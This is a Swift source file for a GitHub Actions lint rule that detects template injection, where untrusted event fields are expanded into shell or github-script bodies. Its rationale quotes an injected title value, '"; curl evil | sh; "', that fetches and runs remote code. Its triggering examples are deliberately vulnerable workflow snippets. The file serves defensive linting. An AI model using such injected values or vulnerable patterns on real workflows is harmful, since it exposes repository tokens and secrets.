import WorkflowModel

/// Untrusted event fields expanded into a shell script or a github-script body run as code.
struct TemplateInjectionRule: Rule {
    let description = RuleDescription(
        id: "template-injection",
        summary: "Untrusted event fields (titles, bodies, branch names, commit messages) expanded into `run:` or github-script `script:`.",
        rationale: "`${{ }}` is pasted into the script before it runs: a pull-request title such as `\"; curl evil | sh; \"` becomes code with the job's token and secrets. Pass the value through `env:` and quote the variable.",
        triggering: [
            Example("""
            on: issues
            jobs:
              greet:
                runs-on: ubuntu-latest
                steps:
                  - run: echo "${{ ↓github.event.issue.title }}" "${{ github.event.issue.locked && ↓github.event.issue.body }}"
                  - uses: actions/github-script@v7
                    with:
                      script: console.log("${{ ↓github.head_ref }}", ${{ toJSON(↓github.event.commits[0].message) }})
            """),
        ],
        nonTriggering: [
            Example("""
            on: issues
            jobs:
              greet:
                runs-on: ubuntu-latest
                steps:
                  - run: echo "$TITLE" ${{ github.event.issue.number }} ${{ github.event.issue.title == 'help' }}
                    env:
                      TITLE: ${{ github.event.issue.title }}
            """),
        ]
    )

    func check(_ workflow: Workflow, context: LintContext) -> [Finding] {
        ScriptExpansions.of(workflow, context: context).compactMap { expansion in
            guard expansion.exposure == .attackerControlled else { return nil }
            return Finding("\(expansion.text) is controlled by outsiders and is expanded into a script: pass it through env: (e.g. VALUE: ${{ \(expansion.text) }}) and use \"$VALUE\"",
                           at: expansion.position)
        }
    }
}
